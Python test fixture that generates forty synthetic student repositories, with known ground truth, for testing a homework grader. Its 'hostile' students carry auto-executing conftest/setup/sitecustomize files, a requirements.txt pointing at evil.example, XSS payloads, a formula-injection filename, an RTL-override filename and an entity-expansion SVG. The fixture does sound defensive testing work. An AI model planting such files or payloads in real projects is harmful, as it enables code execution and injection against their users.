"""A class of forty invented students whose repositories are built by code, so that what each holds is
known.

Each student writes in one language and one style, lays the work out in one way, and leaves things out;
`Handed` keeps which items of the rubric are there.  The phrases are written as students write, not copied
from the rubric's words.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from pathlib import Path

from plagiarism import as_notebook, partial, program, renamed, reordered
from student_phrases import (
    ABSENT_FROM_FORM,
    COMMON,
    ITEMS,
    METRICS,
)
from student_repositories import Commit, build
from student_writing import NUMBERS, Writer

FOUND, MISSING, UNREADABLE, EXTERNAL = "found", "missing", "unreadable", "external"
BRANCHES = [
    "homework_{}",
    "homework{}",
    "hw{}",
    "HW-{}",
    "Homework_{}",
    "hw_{}",
    "homework-{}",
    "dz{}",
    "ДЗ_{}",
    "homewrok_{}",
]
FOLDERS = ["hw_{}/", "HW{}/", "homework_{}/", "Homework {}/", "HW_{}.Solution/", "src/hw{}/"]


@dataclass
class Handed:
    """One work of one student, and the truth about it."""

    work: str
    place: str
    truth: dict[str, str]


@dataclass
class Invented:
    """One student."""

    id: str
    last_name: str
    first_name: str
    kind: str
    folder: Path
    works: dict[str, Handed] = field(default_factory=dict)
    named: bool = True
    on_time: bool = True
    copied_from: str | None = None


KINDS = ["good"] * 6 + ["late"] * 3 + ["missing"] * 10 + ["typos"] * 6 + ["notebook"] * 5 + ["folders"] * 4
KINDS += ["copied"] * 4 + ["hostile"] * 2
DISGUISES = [
    lambda text, other: {"training.py": renamed(text, 1).encode()},
    lambda text, other: {"my_training.py": reordered(renamed(text, 2), 2).encode()},
    lambda text, other: {"training.ipynb": as_notebook(text)},
    lambda text, other: {"training.py": partial(text, other).encode()},
]
"""How those who copied hide it."""
HARM = """
import os
open({marker!r}, "w").write("it was run")
os.system("touch {marker}")
"""
NAMES = [
    ("Иванов", "Иван"),
    ("Petrova", "Anna"),
    ("Сидоров", "Пётр"),
    ("Smirnova", "Olga"),
    ("Щукин", "Юрий"),
    ("Volkov", "Egor"),
]


def invent(root: Path) -> list[Invented]:
    """The forty, as bare repositories under `root`."""
    return [_student(root, index, kind) for index, kind in enumerate(KINDS)]


def own_code(index: int, kind: str) -> dict[str, bytes]:
    """What a student wrote besides the lines that the rubric looks for; of the first students, if copied."""
    if kind == "copied":
        place = index - KINDS.index("copied")
        return DISGUISES[place](program(place), program(index))
    if kind == "notebook":
        return {"training.ipynb": as_notebook(program(index))}
    return {"training.py": program(index).encode()}


def harmful(root: Path) -> dict[str, bytes]:
    """What a hostile student adds: code that leaves a mark where it is run, pages and names that attack."""
    harm = HARM.format(marker=str(root / "it-was-run"))
    bomb = b"<!DOCTYPE x [<!ENTITY a '" + b"x" * 1000 + b"'>]><svg>&a;</svg>"
    return {
        "conftest.py": harm.encode(),
        "setup.py": harm.encode(),
        "sitecustomize.py": harm.encode(),
        ".gitattributes": b"* filter=evil diff=evil\n",
        "requirements.txt": b"torch==2.1.0\n--index-url https://evil.example\nhttps://evil.example/x.whl\n",
        "attack.md": b"<script>alert(1)</script>\n![x](javascript:alert(2))\n" + b"a" * 300_000 + b"\n",
        "=cmd|' 'A1.py": b"x = 1\n",
        "name\nwith\u202elines.py": b"x = 1\n",
        "bomb.svg": bomb,
        "broken.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
    }


def _student(root: Path, index: int, kind: str) -> Invented:
    draw = random.Random(index)
    language = "ru" if index % 2 else "en"
    last, first = NAMES[index % len(NAMES)]
    who = Invented(f"s{index:02d}", last, first, kind, root / f"s{index:02d}", on_time=kind != "late")
    if kind == "copied":
        who.copied_from = f"s{index - KINDS.index('copied'):02d}"
    works = draw.sample(list(NUMBERS), 2)
    who.named = kind not in ("missing",) or draw.random() < 0.5
    greeting = {
        "ru": "Студент: {}\n\nКурс по генеративным моделям.",
        "en": "Student: {}\n\nCourse on generative models.",
    }
    name = f"{last} {first}" if who.named else "?"
    commits = [Commit("main", {"README.md": greeting[language].format(name)}, date="2024-02-01")]
    for work in works:
        items = {*COMMON, *ITEMS[work], "logging"} - ABSENT_FROM_FORM.get(work, set())
        if kind == "missing":
            items -= set(draw.sample(sorted(items - {"readme", "files"}), 6))
        if "dataset" not in items:
            items -= {"dataset_size"}
        manner = "notebook" if kind == "notebook" else "page"
        writer = Writer(100 * index + NUMBERS[work], language, kind == "typos", manner)
        files = writer.write(work, items)
        if "files" in items:
            files |= own_code(index, kind)
        if kind == "hostile":
            files |= harmful(root)
        truth = {
            item: FOUND if item in items else MISSING
            for item in {*COMMON, *ITEMS[work]} - ABSENT_FROM_FORM.get(work, set())
        }
        if manner == "notebook":
            truth["readme"] = MISSING
        if METRICS & items and "metric_values" in truth:
            truth["metric_values"] = FOUND
        if not any(name.endswith((".py", ".ipynb")) for name in files):
            truth["files"] = MISSING
        commits.append(_place(who, work, files, draw, commits))
        who.works[work] = Handed(work, "", truth)
    build(who.folder, commits)
    return who


def _place(
    who: Invented, work: str, files: dict[str, bytes], draw: random.Random, commits: list[Commit]
) -> Commit:
    """The commit that hands a work in, on a branch or in a folder of main."""
    date = "2024-05-20" if who.kind == "late" else "2024-03-01"
    number = NUMBERS[work]
    if who.kind == "folders":
        folder = draw.choice(FOLDERS).format(number)
        return Commit("main", {folder + path: content for path, content in files.items()}, date=date)
    pattern = draw.choice(BRANCHES)
    if work == "lab8":
        pattern = draw.choice(["lab8", "lab_8", "Lab-8", "lab_08"])
    inside = draw.choice(["", "", "", f"hw{number}/"])
    start = draw.choice([None, "main"])
    if start == "main" and not inside and any(path.lower() == "readme.md" for path in files):
        files = {**files, **({"README.md": None} if "README.md" not in files else {})}
    return Commit(
        pattern.format(number),
        {inside + path if content is not None else path: content for path, content in files.items()},
        date=date,
        start=start,
    )
